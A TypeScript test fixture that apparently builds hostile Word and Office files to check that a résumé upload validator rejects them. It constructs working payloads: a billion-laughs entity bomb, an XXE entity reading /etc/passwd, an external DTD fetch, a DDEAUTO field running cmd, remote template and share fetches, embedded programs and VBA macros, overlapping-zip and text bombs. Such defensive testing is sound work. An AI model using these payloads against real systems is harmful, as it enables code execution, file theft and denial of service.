import { compoundFile, type Storage } from "../compound-file-writer.ts";
import { archive, docx, related, wordDocument, wordPackage, xml } from "../resumes.ts";
import { type HostileDocument, latin, packaged, vbaProject, windowsProgram } from "./hostile-document.ts";

const mebibyte = 1024 * 1024;
/** A Word package with an OLE object. */
const embedding = (object: Storage) =>
  wordPackage({
    relations: related("oleObject", "embeddings/oleObject1.bin", "Internal"),
    parts: [{ name: "word/embeddings/oleObject1.bin", data: compoundFile(object) }],
  });

const bodyOf = (paragraphs: string) => wordPackage({ body: paragraphs });
const document = (data: Uint8Array | string) =>
  archive([
    {
      name: "[Content_Types].xml",
      data: xml(
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      ),
    },
    {
      name: "_rels/.rels",
      data: xml(`<Relationships>${related("officeDocument", "word/document.xml", "Internal")}</Relationships>`),
    },
    { name: "word/document.xml", data },
  ]);
const declared = (subset: string, text: string) =>
  document(
    `<?xml version="1.0"?><!DOCTYPE w [${subset}]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
  );
const laughs = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join("");
const main = (type: string, name = "word/document.xml") =>
  archive([
    {
      name: "[Content_Types].xml",
      data: xml(`<Types><Override PartName="/${name}" ContentType="application/vnd.${type}"/></Types>`),
    },
    { name: "_rels/.rels", data: xml(`<Relationships>${related("officeDocument", name, "Internal")}</Relationships>`) },
    { name, data: "<x/>" },
  ]);

/** Many entries that are the same bytes (Fifield, "A better zip bomb"). */
function overlapping(): Buffer {
  const file = archive([
    { name: "word/document.xml", data: Buffer.alloc(mebibyte) },
    ...Array.from({ length: 400 }, (_, n) => ({ name: `word/media/${n}`, data: "" })),
  ]);
  const end = file.lastIndexOf(latin("PK\x05\x06"));
  let at = file.readUInt32LE(end + 16);
  const first = { sizes: file.subarray(at + 16, at + 28), name: file.readUInt16LE(at + 28) };
  for (let entry = 0; entry <= 400; entry++) {
    first.sizes.copy(file, at + 16);
    file.writeUInt32LE(0, at + 42);
    at += 46 + file.readUInt16LE(at + 28);
  }
  return file;
}

/** Word packages that run programs, fetch files, or expand beyond available memory. */
const packages: readonly HostileDocument[] = [
  ["a Word package with a program in its trash", docx([{ name: "[trash]/0000.dat", data: windowsProgram }]), "program"],
  [
    "a Word package with a program as its thumbnail",
    docx([{ name: "docProps/thumbnail.jpeg", data: windowsProgram }]),
    "program",
  ],
  ["an embedded package of a program", embedding(packaged("calc.exe", windowsProgram)), "program"],
  ["an embedded package of a text", embedding(packaged("a.txt", latin("x"))), ["attachment", "embeddedObject"]],
  ["an embedded table with macros", embedding({ Workbook: latin("x"), _VBA_PROJECT_CUR: vbaProject }), "macros"],
  [
    "a Word package with a real VBA project",
    docx([{ name: "word/vbaProject.bin", data: compoundFile(vbaProject) }]),
    "macros",
  ],
  [
    "an object of a share",
    wordPackage({ relations: related("oleObject", "file:///\\\\host\\share\\a.xlsx") }),
    "runsOnOpen",
  ],
  ["a picture of a share", wordPackage({ relations: related("image", "\\\\host\\a.png") }), "runsOnOpen"],
  [
    "a template whose address is in capitals",
    wordPackage({ relations: related("attachedTemplate", "HTTP://host/a.dotm") }),
    "runsOnOpen",
  ],
  [
    "a template whose address is broken by a line",
    wordPackage({ relations: related("attachedTemplate", "ht&#10;tp://host/a.dotm") }),
    "runsOnOpen",
  ],
  [
    "a template without a scheme",
    wordPackage({ relations: related("attachedTemplate", "//host/a.dotm") }),
    "runsOnOpen",
  ],
  [
    "a template of its building blocks",
    docx([
      {
        name: "word/glossary/_rels/settings.xml.rels",
        data: xml(`<Relationships>${related("attachedTemplate", "http://host/a.dotm")}</Relationships>`),
      },
    ]),
    "runsOnOpen",
  ],
  [
    "a DDE field in a comment",
    docx([{ name: "word/comments.xml", data: wordDocument('<w:p><w:fldSimple w:instr="DDEAUTO cmd calc"/></w:p>') }]),
    "runsOnOpen",
  ],
  [
    "a field that fetches a text of a share",
    bodyOf('<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;\\\\\\\\host\\\\a.docx&quot;"/></w:p>'),
    "runsOnOpen",
  ],
  ["entities that laugh", declared(`<!ENTITY l0 "ha">${laughs}`, "&l10;"), []],
  ["an entity of a file", declared('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;"), []],
  ["an entity of the web", declared('<!ENTITY % a SYSTEM "http://host/a.dtd"> %a;', "x"), []],
  [
    "elements in elements, a million deep",
    document(`${wordDocument().slice(0, -9)}${"<w:a>".repeat(1_000_000)}`),
    "tooComplex",
  ],
  ["parts that overlap", overlapping(), "ambiguous"],
  [
    "a bomb of text",
    document(Buffer.concat([latin("<?xml version='1.0'?><w:document>"), Buffer.alloc(300 * mebibyte, " ")])),
    "tooComplex",
  ],
  [
    "a spreadsheet of Excel",
    main("openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "xl/workbook.xml"),
    "spreadsheet",
  ],
  [
    "slides of PowerPoint",
    main("openxmlformats-officedocument.presentationml.presentation.main+xml", "ppt/presentation.xml"),
    "presentation",
  ],
  ["a document with macros that was renamed", main("ms-word.document.macroEnabled.main+xml"), "macros"],
  [
    "an OpenDocument text",
    archive([
      { name: "mimetype", data: "application/vnd.oasis.opendocument.text" },
      { name: "content.xml", data: "<x/>" },
    ]),
    "openDocument",
  ],
  ["a document of Pages", archive([{ name: "Index/Document.iwa", data: "x" }]), "pages"],
  ["a program and a Word package", Buffer.concat([windowsProgram, docx()]), "program"],
  ["a Word package cut within its directory", docx().subarray(0, -30), "damaged"],
];

/** Texts that are named .doc. */
const texts: readonly HostileDocument[] = [
  [
    "a web page of Word",
    latin('<html xmlns:w="urn:schemas-microsoft-com:office:word"><script>alert(1)</script></html>'),
    "html",
  ],
  [
    "a web page with its pictures",
    latin('MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x'),
    "html",
  ],
  [
    "a Word 2003 XML document",
    latin('<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>'),
    "wordXml",
  ],
  ["rich text with an object", latin("{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}"), "rtf"],
];

export const hostilePackages: readonly HostileDocument[] = [...packages, ...texts];
